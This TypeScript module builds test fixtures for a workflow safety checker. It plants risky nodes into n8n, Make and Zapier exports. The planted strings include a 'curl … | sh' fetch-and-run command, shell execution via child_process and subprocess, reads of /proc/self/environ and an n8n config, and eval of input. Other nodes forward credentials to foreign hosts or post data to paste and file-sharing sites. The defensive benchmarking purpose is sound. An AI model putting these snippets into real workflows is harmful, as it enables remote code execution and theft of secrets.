/**
 * Risky variants of clean exports, each with the one finding it plants: what bench/safety and the
 * safety tests measure the check against. Deterministic (variant `i` is always the same file), pure
 * (no files read or written here: scripts/safety/variants.ts writes them), and written from the
 * platforms' export shapes, not from the check's own lists, so a rule that misses a shape shows up.
 */
import type { SafetyRuleCode } from './safety.ts';
import { type JsonRecord, isRecord } from './shared.ts';

export interface CleanExport {
  /** Where it came from, e.g. `n8n/some-file.json`. */
  name: string;
  text: string;
}

export interface PlantedFinding {
  code: SafetyRuleCode;
  /** The node the finding must name. */
  node: string;
  /** The finding's `detail`, when the rule gives one (a host, a module, a package). */
  detail?: string;
}

export interface RiskyVariant {
  name: string;
  platform: 'n8n' | 'make' | 'zapier';
  /** The pattern that planted it (`n8n-code-eval`, `make-http-paste`…). */
  pattern: string;
  base: string;
  planted: PlantedFinding;
  text: string;
}

type Platform = RiskyVariant['platform'];

interface Pattern {
  id: string;
  platform: Platform;
  code: SafetyRuleCode;
  /** Changes `doc` (parsed base export); returns the planted finding's detail (or undefined). */
  plant(doc: JsonRecord, node: string, n: number): { detail?: string } | null;
}

const pick = <T>(options: readonly T[], n: number): T => options[n % options.length]!;

// Hosts as attackers and careless authors use them (independent of the check's own lists).
const PASTE_HOSTS = ['pastebin.com', 'paste.ee', 'hastebin.com', 'ghostbin.com', 'rentry.co', 'transfer.sh'];
const SHORTENER_HOSTS = ['bit.ly', 'tinyurl.com', 't.co', 'is.gd', 'goo.gl', 'cutt.ly'];
const FILE_SHARING_HOSTS = ['anonfiles.com', 'file.io', 'mega.nz', 'gofile.io', 'wetransfer.com'];
/** [URL host as written, host as reported]: dotted, decimal, hex and IPv6 forms. */
const IP_HOSTS: [string, string][] = [
  ['45.33.12.9', '45.33.12.9'],
  ['760880137', '45.90.28.9'],
  ['0x2d210c09', '45.33.12.9'],
  ['[2a01:4f8:c17:1::1]', '[2a01:4f8:c17:1::1]'],
  ['185.199.108.153:8443', '185.199.108.153'],
  ['169.254.169.254', '169.254.169.254'],
];
const NETWORK_MODULES = [
  'http',
  'https',
  'net',
  'dgram',
  'tls',
  'axios',
  'node-fetch',
  'got',
  'request',
  'ws',
];
const FOREIGN_HOSTS = ['collect.example-metrics.net', 'api.telemetry-hub.io', 'hooks.acme-sync.org'];
const COMMUNITY_PACKAGES = ['n8n-nodes-super-scraper', '@acme/n8n-nodes-crm', 'n8n-nodes-pdf-magic'];

/** A base64 or hex blob that looks like an encoded payload, different for each `n`. */
function blob(n: number, hex: boolean): string {
  let seed = 2166136261 ^ n;
  const next = () => {
    seed = Math.imul(seed ^ (seed >>> 15), 2246822507) >>> 0;
    seed = Math.imul(seed ^ (seed >>> 13), 3266489909) >>> 0;
    return (seed ^= seed >>> 16) >>> 0;
  };
  const alphabet = hex
    ? '0123456789abcdef'
    : 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  let out = '';
  for (let i = 0; i < (hex ? 160 : 280); i++) out += alphabet[next() % alphabet.length];
  return out;
}

/** JavaScript that plants `code` (with its detail), variant `n`. */
function riskyJs(code: SafetyRuleCode, n: number): { js: string; detail?: string } {
  switch (code) {
    case 'code_child_process':
      return pick(
        [
          {
            js: "const { execSync } = require('child_process');\nreturn [{ json: { out: execSync('id').toString() } }];",
            detail: 'child_process',
          },
          {
            js: "import { spawn } from 'node:child_process';\nspawn('sh', ['-c', $json.cmd]);\nreturn $input.all();",
            detail: 'child_process',
          },
          {
            js: 'const cp = require("child_process");\ncp.exec("curl -s example.org | sh");\nreturn items;',
            detail: 'child_process',
          },
        ],
        n,
      );
    case 'code_fs':
      return pick(
        [
          {
            js: "const fs = require('fs');\nconst data = fs.readFileSync('/home/node/.n8n/config', 'utf8');\nreturn [{ json: { data } }];",
            detail: 'fs',
          },
          {
            js: "const { readFile } = await import('fs/promises');\nreturn [{ json: { env: await readFile('/proc/self/environ', 'utf8') } }];",
            detail: 'fs/promises',
          },
          {
            js: "import fs from 'node:fs';\nfs.writeFileSync('/tmp/x.sh', $json.body);\nreturn items;",
            detail: 'fs',
          },
        ],
        n,
      );
    case 'code_eval':
      return pick(
        [
          { js: 'const result = eval($json.expression);\nreturn [{ json: { result } }];', detail: 'eval' },
          {
            js: "const run = new Function('items', $json.source);\nreturn run($input.all());",
            detail: 'Function',
          },
          { js: "const g = Function('return this')();\nreturn [{ json: { ok: !!g } }];", detail: 'Function' },
        ],
        n,
      );
    case 'code_network_module': {
      const module = pick(NETWORK_MODULES, n);
      const load = n % 2 === 0 ? `const client = require('${module}');` : `import client from '${module}';`;
      return { js: `${load}\nclient.toString();\nreturn $input.all();`, detail: module };
    }
    case 'code_blob': {
      const hex = n % 3 === 2;
      return {
        js: `const payload = '${blob(n, hex)}';\nconst decoded = Buffer.from(payload, '${hex ? 'hex' : 'base64'}');\nreturn [{ json: { size: decoded.length } }];`,
      };
    }
    default:
      throw new Error(`no JavaScript plants ${code}`);
  }
}

const CODE_CODES: SafetyRuleCode[] = [
  'code_child_process',
  'code_fs',
  'code_eval',
  'code_network_module',
  'code_blob',
];

// ---------------------------------------------------------------------------------------------
// n8n

function n8nNodes(doc: JsonRecord): JsonRecord[] | null {
  const nodes = doc.nodes;
  return Array.isArray(nodes) ? (nodes as JsonRecord[]) : null;
}

function addN8nNode(doc: JsonRecord, node: JsonRecord): JsonRecord | null {
  const nodes = n8nNodes(doc);
  if (!nodes) return null;
  const added = {
    id: `planted-${nodes.length}-${String(node.name)}`.replace(/\s+/g, '-'),
    typeVersion: 1,
    position: [nodes.length * 220, 600],
    parameters: {},
    ...node,
  };
  nodes.push(added);
  return added;
}

function n8nHttp(
  doc: JsonRecord,
  name: string,
  url: string,
  extra: JsonRecord = {},
  credentials?: JsonRecord,
): boolean {
  return (
    addN8nNode(doc, {
      name,
      type: 'n8n-nodes-base.httpRequest',
      typeVersion: 4.2,
      parameters: { url, method: 'POST', options: {}, ...extra },
      ...(credentials ? { credentials } : {}),
    }) !== null
  );
}

function n8nCode(doc: JsonRecord, name: string, js: string, n: number): boolean {
  // Half of the time inside an existing Code node (renamed to `name`), as an edit would do.
  const nodes = n8nNodes(doc);
  const existing =
    n % 2 === 0
      ? nodes?.find((node) => node.type === 'n8n-nodes-base.code' && isRecord(node.parameters))
      : undefined;
  if (existing && isRecord(existing.parameters) && typeof existing.parameters.jsCode === 'string') {
    renameN8nNode(doc, existing, name);
    existing.parameters.jsCode = `${existing.parameters.jsCode}\n${js}`;
    return true;
  }
  const type = pick(['n8n-nodes-base.code', 'n8n-nodes-base.function', 'n8n-nodes-base.functionItem'], n);
  const parameters = type === 'n8n-nodes-base.code' ? { jsCode: js } : { functionCode: js };
  return (
    addN8nNode(doc, { name, type, typeVersion: type === 'n8n-nodes-base.code' ? 2 : 1, parameters }) !== null
  );
}

/** Renames a node and the connections that name it. */
function renameN8nNode(doc: JsonRecord, node: JsonRecord, name: string): void {
  const old = String(node.name);
  node.name = name;
  const connections = doc.connections;
  if (!isRecord(connections)) return;
  if (old in connections) {
    connections[name] = connections[old];
    delete connections[old];
  }
  for (const byType of Object.values(connections)) {
    if (!isRecord(byType)) continue;
    for (const outputs of Object.values(byType))
      if (Array.isArray(outputs))
        for (const targets of outputs)
          if (Array.isArray(targets))
            for (const target of targets) if (isRecord(target) && target.node === old) target.node = name;
  }
}

const N8N_PATTERNS: Pattern[] = [
  ...CODE_CODES.map((code): Pattern => ({
    id: `n8n-${code.replace(/_/g, '-')}`,
    platform: 'n8n',
    code,
    plant(doc, node, n) {
      const { js, detail } = riskyJs(code, n);
      return n8nCode(doc, node, js, n) ? (detail !== undefined ? { detail } : {}) : null;
    },
  })),
  {
    id: 'n8n-code-python',
    platform: 'n8n',
    code: 'code_child_process',
    plant: (doc, name) =>
      addN8nNode(doc, {
        name,
        type: 'n8n-nodes-base.code',
        typeVersion: 2,
        parameters: {
          language: 'python',
          pythonCode:
            'import subprocess\nout = subprocess.run(["id"], capture_output=True)\nreturn _input.all()',
        },
      })
        ? { detail: 'subprocess' }
        : null,
  },
  {
    id: 'n8n-http-ip-literal',
    platform: 'n8n',
    code: 'http_ip_literal',
    plant(doc, name, n) {
      const [written, reported] = pick(IP_HOSTS, n);
      return n8nHttp(doc, name, `${n % 2 ? 'https' : 'http'}://${written}/api/v1/collect`)
        ? { detail: reported }
        : null;
    },
  },
  {
    id: 'n8n-http-paste-site',
    platform: 'n8n',
    code: 'http_paste_site',
    plant(doc, name, n) {
      const host = pick(PASTE_HOSTS, n);
      // Sometimes with an expression after the host, which still names it.
      const url = n % 2 ? `=https://${host}/raw/{{ $json.id }}` : `https://${host}/api/api_post.php`;
      return n8nHttp(doc, name, url) ? { detail: host } : null;
    },
  },
  {
    id: 'n8n-http-url-shortener',
    platform: 'n8n',
    code: 'http_url_shortener',
    plant(doc, name, n) {
      const host = pick(SHORTENER_HOSTS, n);
      return n8nHttp(doc, name, `https://${host}/3xY${n}q`) ? { detail: host } : null;
    },
  },
  {
    id: 'n8n-http-file-sharing',
    platform: 'n8n',
    code: 'http_file_sharing',
    plant(doc, name, n) {
      const host = pick(FILE_SHARING_HOSTS, n);
      return n8nHttp(doc, name, `https://${host}/upload`) ? { detail: host } : null;
    },
  },
  {
    id: 'n8n-credential-foreign-host',
    platform: 'n8n',
    code: 'credential_foreign_host',
    plant(doc, name, n) {
      const host = pick(FOREIGN_HOSTS, n);
      if (n % 2 === 0) {
        const [type, label] = pick(
          [
            ['slackApi', 'Slack account'],
            ['notionApi', 'Notion account'],
            ['openAiApi', 'OpenAi account'],
            ['githubApi', 'GitHub account'],
            ['hubspotAppToken', 'HubSpot account'],
          ],
          n / 2,
        );
        return n8nHttp(
          doc,
          name,
          `https://${host}/v1/ingest`,
          { authentication: 'predefinedCredentialType', nodeCredentialType: type },
          { [type]: { id: `cred${n}`, name: label } },
        )
          ? { detail: host }
          : null;
      }
      return n8nHttp(doc, name, `https://${host}/v1/ingest`, {
        sendHeaders: true,
        headerParameters: { parameters: [{ name: 'X-Key', value: '={{ $credentials.apiKey }}' }] },
      })
        ? { detail: host }
        : null;
    },
  },
  {
    id: 'n8n-webhook-no-auth',
    platform: 'n8n',
    code: 'webhook_no_auth',
    plant: (doc, name, n) =>
      addN8nNode(doc, {
        name,
        type: 'n8n-nodes-base.webhook',
        typeVersion: 2,
        parameters: {
          path: `planted-${n}`,
          httpMethod: 'POST',
          ...(n % 2 ? { authentication: 'none' } : {}),
          options: {},
        },
        webhookId: `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`,
      })
        ? {}
        : null,
  },
  {
    id: 'n8n-form-no-auth',
    platform: 'n8n',
    code: 'form_no_auth',
    plant: (doc, name, n) =>
      addN8nNode(doc, {
        name,
        type: 'n8n-nodes-base.formTrigger',
        typeVersion: 2.2,
        parameters: {
          formTitle: `Form ${n}`,
          formFields: { values: [{ fieldLabel: 'Email' }] },
          options: {},
        },
      })
        ? {}
        : null,
  },
  {
    id: 'n8n-community-package',
    platform: 'n8n',
    code: 'community_package',
    plant(doc, name, n) {
      const pkg = pick(COMMUNITY_PACKAGES, n);
      return addN8nNode(doc, { name, type: `${pkg}.${n % 2 ? 'scrape' : 'run'}`, parameters: {} })
        ? { detail: pkg }
        : null;
    },
  },
  ...(
    [
      [
        'execute_command',
        'n8n-nodes-base.executeCommand',
        { command: 'curl -s https://example.org/i.sh | sh' },
      ],
      ['ssh', 'n8n-nodes-base.ssh', { command: 'uptime' }],
      ['ftp', 'n8n-nodes-base.ftp', { operation: 'upload', path: '/in/report.csv' }],
      ['file_system', 'n8n-nodes-base.readWriteFile', { operation: 'write', fileName: '/tmp/out.json' }],
    ] as const
  ).map(([code, type, parameters]): Pattern => ({
    id: `n8n-${code.replace(/_/g, '-')}`,
    platform: 'n8n',
    code,
    plant: (doc, name) => (addN8nNode(doc, { name, type, parameters: { ...parameters } }) ? {} : null),
  })),
];

// ---------------------------------------------------------------------------------------------
// Make

function addMakeModule(doc: JsonRecord, name: string, module: string, mapper: JsonRecord): boolean {
  const flow = doc.flow;
  if (!Array.isArray(flow)) return false;
  let maxId = 0;
  const visit = (modules: unknown[]) => {
    for (const m of modules) {
      if (!isRecord(m)) continue;
      if (typeof m.id === 'number') maxId = Math.max(maxId, m.id);
      if (Array.isArray(m.routes))
        for (const route of m.routes) if (isRecord(route) && Array.isArray(route.flow)) visit(route.flow);
      if (Array.isArray(m.onerror)) visit(m.onerror);
    }
  };
  visit(flow);
  flow.push({
    id: maxId + 1,
    module,
    version: 1,
    parameters: {},
    mapper,
    metadata: { designer: { x: flow.length * 300, y: 300, name } },
  });
  return true;
}

const MAKE_PATTERNS: Pattern[] = [
  {
    id: 'make-code',
    platform: 'make',
    code: 'code_eval',
    plant(doc, name, n) {
      const codeRule = pick(['code_eval', 'code_child_process', 'code_network_module'] as const, n);
      const { js, detail } = riskyJs(codeRule, n);
      // The finding planted is recorded per variant below (the pattern's code is a default).
      return addMakeModule(doc, name, 'code:ExecuteCode', { language: 'javascript', code: js })
        ? { detail: `${codeRule}|${detail ?? ''}` }
        : null;
    },
  },
  {
    id: 'make-http',
    platform: 'make',
    code: 'http_paste_site',
    plant(doc, name, n) {
      const [code, host, url] = pick(
        [
          ['http_paste_site', pick(PASTE_HOSTS, n), `https://${pick(PASTE_HOSTS, n)}/api/api_post.php`],
          ['http_ip_literal', '45.33.12.9', 'http://45.33.12.9:8080/in'],
          ['http_url_shortener', pick(SHORTENER_HOSTS, n), `https://${pick(SHORTENER_HOSTS, n)}/x${n}`],
          ['http_file_sharing', pick(FILE_SHARING_HOSTS, n), `${pick(FILE_SHARING_HOSTS, n)}/upload`],
        ] as const,
        n,
      );
      return addMakeModule(doc, name, 'http:ActionSendData', { url, method: 'post', headers: [] })
        ? { detail: `${code}|${host}` }
        : null;
    },
  },
  {
    id: 'make-webhook',
    platform: 'make',
    code: 'webhook_no_auth',
    plant: (doc, name, n) => {
      const flow = doc.flow;
      if (!Array.isArray(flow)) return null;
      flow.unshift({
        id: 9000 + n,
        module: 'gateway:CustomWebHook',
        version: 1,
        parameters: { hook: 100000 + n, maxResults: 1 },
        mapper: {},
        metadata: { designer: { x: -300, y: 0, name } },
      });
      return { detail: 'secret-url' };
    },
  },
];

// ---------------------------------------------------------------------------------------------
// Zapier

function addZapierStep(doc: JsonRecord, name: string, step: JsonRecord): boolean {
  const zaps = doc.zaps;
  if (!Array.isArray(zaps) || !isRecord(zaps[0])) return false;
  const zap = zaps[0];
  const key = zap.nodes !== undefined ? 'nodes' : 'steps';
  const steps = zap[key];
  const list: JsonRecord[] = Array.isArray(steps)
    ? (steps as JsonRecord[])
    : isRecord(steps)
      ? (Object.values(steps) as JsonRecord[])
      : [];
  const ids = list.map((s) => Number(s.id)).filter(Number.isFinite);
  const id = Math.max(0, ...ids) + 1;
  const parent = ids.length > 0 ? Math.max(...ids) : null;
  const added = { id, parent_id: parent, root_id: ids[0] ?? null, meta: { stepTitle: name }, ...step };
  if (Array.isArray(steps)) steps.push(added);
  else if (isRecord(steps)) steps[String(id)] = added;
  else return false;
  return true;
}

const ZAPIER_PATTERNS: Pattern[] = [
  {
    id: 'zapier-code',
    platform: 'zapier',
    code: 'code_eval',
    plant(doc, name, n) {
      const python = n % 2 === 1;
      const [code, detail, source] = python
        ? pick(
            [
              [
                'code_network_module',
                'socket',
                'import socket\ns = socket.create_connection(("example.org", 80))\noutput = {}',
              ],
              [
                'code_child_process',
                'subprocess',
                'import subprocess\noutput = {"o": subprocess.check_output(["id"])}',
              ],
            ] as const,
            n,
          )
        : pick(
            [
              ['code_eval', 'eval', 'const r = eval(inputData.expr);\noutput = [{ r }];'],
              ['code_network_module', 'https', "const https = require('https');\noutput = [{}];"],
            ] as const,
            n,
          );
      return addZapierStep(doc, name, {
        type_of: 'write',
        selected_api: 'CodeAPI',
        action: python ? 'run_python' : 'run_javascript',
        params: { code: source, input_data: { expr: '{{1__text}}' } },
      })
        ? { detail: `${code}|${detail}` }
        : null;
    },
  },
  {
    id: 'zapier-http',
    platform: 'zapier',
    code: 'http_paste_site',
    plant(doc, name, n) {
      const [code, host] = pick(
        [
          ['http_paste_site', pick(PASTE_HOSTS, n)],
          ['http_ip_literal', '45.33.12.9'],
          ['http_file_sharing', pick(FILE_SHARING_HOSTS, n)],
          ['http_url_shortener', pick(SHORTENER_HOSTS, n)],
        ] as const,
        n,
      );
      return addZapierStep(doc, name, {
        type_of: 'write',
        selected_api: 'WebHookAPI',
        action: pick(['post', 'custom_request', 'put'], n),
        params: { url: `https://${host}/in`, data: { email: '{{1__email}}' } },
      })
        ? { detail: `${code}|${host}` }
        : null;
    },
  },
  {
    id: 'zapier-catch-hook',
    platform: 'zapier',
    code: 'webhook_no_auth',
    plant(doc, name) {
      const zaps = doc.zaps;
      if (!Array.isArray(zaps)) return null;
      zaps.push({
        id: 900,
        title: name,
        nodes: {
          1: {
            id: 1,
            parent_id: null,
            type_of: 'read',
            selected_api: 'WebHookAPI',
            action: 'hook',
            params: {},
            meta: { stepTitle: name },
          },
          2: {
            id: 2,
            parent_id: 1,
            type_of: 'write',
            selected_api: 'SlackAPI',
            action: 'channel_message',
            params: {},
          },
        },
      });
      return { detail: 'secret-url' };
    },
  },
];

export const VARIANT_PATTERNS: readonly { id: string; platform: Platform }[] = [
  ...N8N_PATTERNS,
  ...MAKE_PATTERNS,
  ...ZAPIER_PATTERNS,
].map(({ id, platform }) => ({ id, platform }));

function platformOf(doc: unknown): Platform | null {
  if (!isRecord(doc)) return null;
  if (Array.isArray(doc.zaps)) return 'zapier';
  if (Array.isArray(doc.flow)) return 'make';
  if (Array.isArray(doc.nodes)) return 'n8n';
  return null;
}

/**
 * `count` risky variants of `clean` exports: the patterns in turn, each on the next clean export of
 * its platform. Patterns whose platform has no clean export are skipped.
 */
export function plantRiskyVariants(clean: readonly CleanExport[], count = 300): RiskyVariant[] {
  const bases: Record<Platform, CleanExport[]> = { n8n: [], make: [], zapier: [] };
  for (const file of clean) {
    let doc: unknown;
    try {
      doc = JSON.parse(file.text);
    } catch {
      continue;
    }
    const platform = platformOf(doc);
    if (platform) bases[platform].push(file);
  }
  const patterns = [...N8N_PATTERNS, ...MAKE_PATTERNS, ...ZAPIER_PATTERNS].filter(
    (pattern) => bases[pattern.platform].length > 0,
  );
  const variants: RiskyVariant[] = [];
  const used: Record<string, number> = {};
  for (let i = 0; variants.length < count && i < count * 4 && patterns.length > 0; i++) {
    const pattern = patterns[i % patterns.length]!;
    const n = (used[pattern.id] = (used[pattern.id] ?? -1) + 1);
    const pool = bases[pattern.platform];
    const base = pool[(n + i) % pool.length]!;
    const doc = JSON.parse(base.text) as JsonRecord;
    const node = `Planted ${pattern.id} ${n}`;
    const planted = pattern.plant(doc, node, n);
    if (planted === null) continue;
    // Patterns that plant one of several findings record it as `code|detail`.
    const [code, detail] =
      planted.detail?.includes('|') === true
        ? (planted.detail.split('|', 2) as [SafetyRuleCode, string])
        : [pattern.code, planted.detail];
    variants.push({
      name: `${String(variants.length + 1).padStart(3, '0')}-${pattern.id}-${n}.json`,
      platform: pattern.platform,
      pattern: pattern.id,
      base: base.name,
      planted: { code, node, ...(detail ? { detail } : {}) },
      text: JSON.stringify(doc, null, 2),
    });
  }
  return variants;
}
